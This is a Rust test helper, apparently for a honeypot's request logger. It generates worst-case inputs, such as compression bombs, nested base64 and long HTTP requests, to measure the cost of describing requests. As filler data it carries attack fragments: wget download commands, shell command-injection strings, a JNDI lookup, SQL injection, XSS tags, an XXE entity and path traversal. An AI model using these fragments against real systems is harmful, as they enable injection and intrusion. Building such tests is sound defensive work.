//! Requests that take much work to describe, for the test of the cost of one record, and for the
//! example that measures.

use std::io::Write;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use forever200_testkit::hostile::Filler;

/// Returns bytes that make the most work for each part of describing, as far as is known:
/// splitting, decoding, searching, unpacking. Each has a name.
pub(crate) fn fillers() -> Vec<(&'static str, Vec<u8>)> {
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::best());
    zlib.write_all(&[b'a'; 100_000]).expect("a Vec takes all");
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(&[b'%'; 100_000]).expect("a Vec takes all");
    let words = "select union script passwd jndi ldap wget cmd exec php cgi-bin admin ../ ";
    vec![
        ("noise", Filler::Random.bytes(65_536)),
        ("headers", Filler::Headers.bytes(65_536)),
        ("control characters", Filler::Controls.bytes(65_536)),
        ("base64", b"YWRtaW46YWRtaW4".to_vec()),
        ("percent signs", b"%25".to_vec()),
        ("overlong UTF-8", b"%c0%ae%c0%af".to_vec()),
        ("look-ups", b"${jndi:${lower:l}${lower:d}a}".to_vec()),
        ("open look-ups", b"${${".to_vec()),
        ("parameters", b"a=b&".to_vec()),
        ("words of signatures", words.as_bytes().to_vec()),
        ("addresses", b"203.0.113.".to_vec()),
        ("groups", b"2001:db8::".to_vec()),
        ("downloads", b"wget http://a.example/;".to_vec()),
        ("commands", b";wget http://a.example/;ls ".to_vec()),
        ("commands inside", b"$(sh -c 'id';`id`".to_vec()),
        ("quotes", b";id \\\"'".to_vec()),
        ("values", b"=a\"a'a".to_vec()),
        ("beginnings of zlib", b"\x78\x9c".to_vec()),
        ("zlib", zlib.finish().expect("a Vec takes all")),
        ("gzip", gzip.finish().expect("a Vec takes all")),
        ("line ends", b"\r\n".to_vec()),
        ("chunks", b"1\r\na\r\n".to_vec()),
        ("brackets", b"[{<".to_vec()),
        ("references of HTML", b"&#65;".to_vec()),
        ("no references of HTML", b"&#".to_vec()),
        ("quoted-printable", b"=3D=3D=41".to_vec()),
        ("escapes", b"\\u0041\\x41".to_vec()),
        ("slashes of base64", b"YW5k/and+/".to_vec()),
        ("nothing but slashes", b"/".to_vec()),
        ("hexadecimal", b"776765742061206220632064206520".to_vec()),
        ("UTF-16", b"%\x004\x001\0".to_vec()),
        (
            "parts of a form",
            b"--b\r\nContent-Type: a\r\n\r\nb\r\n".to_vec(),
        ),
        (
            "many in base64",
            b"bWFueSB3b3JkcyBhbmQgbW9yZSB3Z2V0IA== ".to_vec(),
        ),
        ("many packed ones in base64", many_packed()),
        ("nested", nested()),
        ("words in base64", words_in_base64()),
        ("percent signs, encoded thrice", b"%25252f".to_vec()),
        ("comments of XML", b"<!--".to_vec()),
        ("tags", b"<a onx=1 <svg/onload ".to_vec()),
        ("entities", b"<!entity % a system \"file:\"> ".to_vec()),
        ("unclosed quotes", b"'\"` ".to_vec()),
        ("strings of JSON", b"\"a\":\"' or 1=1\",".to_vec()),
        (
            "beginnings of SQL",
            b"'/*!50000union*/ all(select 1,".to_vec(),
        ),
        ("sums of SQL", b"1=1 or 1 in(1,2) and ".to_vec()),
        ("names of a shell", b";c''a\\t${ifs}$x|a=b;$a ".to_vec()),
        ("steps up", b"../".to_vec()),
        ("steps up with tricks", b"..;/....//".to_vec()),
        ("dots", b".".to_vec()),
        ("marks of templates", b"{{${#{*{%{~{<%={%@([[{@".to_vec()),
        ("closed marks", b"{{a.b}}${1}<%=x%>".to_vec()),
        (
            "addresses with schemes",
            b"=http://0x7f.1:80/ file:/".to_vec(),
        ),
        ("colons", b"http:/".to_vec()),
        ("brackets behind globals", b"self/**/[/*".to_vec()),
        ("calls of PHP", b"$a[0]((system)(".to_vec()),
        ("serialized", b"o:8:\"a\":1:{s:1:\"a\";ro0abxnyaa".to_vec()),
        ("tokens", b"eyJhbGciOiJub25lIn0.ey".to_vec()),
        ("cookies", b"a='b;c=\"d;".to_vec()),
        (
            "files of a form",
            b"--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a.p\"\r\n\r\nb\r\n"
                .to_vec(),
        ),
        ("many headers", b"x-a: ' or 1=1 --\r\n".to_vec()),
        ("folds", b"a:\r\n \r\n ".to_vec()),
        (
            "words of user agents",
            b"bot crawler spider http curl/7 python ".to_vec(),
        ),
    ]
}

/// Returns different compressed streams, each of which becomes long when it is unpacked.
fn many_packed() -> Vec<u8> {
    let one = |number: u8| {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
        let text = [&[number][..], &b"%41".repeat(10_000)].concat();
        gzip.write_all(&text).expect("a Vec takes all");
        let packed = gzip.finish().expect("a Vec takes all");
        BASE64_STANDARD.encode(packed) + " "
    };
    (0..40).map(one).collect::<String>().into_bytes()
}

/// Returns base64 in base64, four times.
fn nested() -> Vec<u8> {
    let mut text = "select union script wget http://a.example/; ".repeat(250);
    for _ in 0..4 {
        text = BASE64_STANDARD.encode(text);
    }
    text.into_bytes()
}

/// Returns words that signatures search for, in base64.
fn words_in_base64() -> Vec<u8> {
    let words = "select union script passwd jndi ldap wget cmd exec php cgi-bin admin ../ ";
    let words = words.repeat(600);
    (BASE64_STANDARD.encode(words) + " ").into_bytes()
}

/// Returns requests of about `length` bytes, with the filler in each part of a request.
pub(crate) fn requests(filler: &[u8], length: usize) -> Vec<Vec<u8>> {
    let many: Vec<u8> = filler.iter().copied().cycle().take(length - 200).collect();
    let around = |before: &str, after: &str| [before.as_bytes(), &many, after.as_bytes()].concat();
    vec![
        around("", ""),
        // The end of a shell command that some fillers begin.
        around("", ";sh"),
        around("GET /", " HTTP/1.1\r\n\r\n"),
        around("GET /?q=", " HTTP/1.1\r\n\r\n"),
        around("GET / HTTP/1.1\r\nUser-Agent: ", "\r\n\r\n"),
        around(
            "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n",
            "",
        ),
        around(
            "POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"a\":[\"",
            "\"]}",
        ),
        around(
            "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n",
            "",
        ),
        around("GET / HTTP/1.1\r\nCookie: ", "\r\n\r\n"),
        around("GET / HTTP/1.1\r\n", "\r\n\r\n"),
        around("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", ""),
        around("\x16\x03\x01\x40\x00\x01\x00\x3f\x7f\x03\x03", ""),
    ]
}
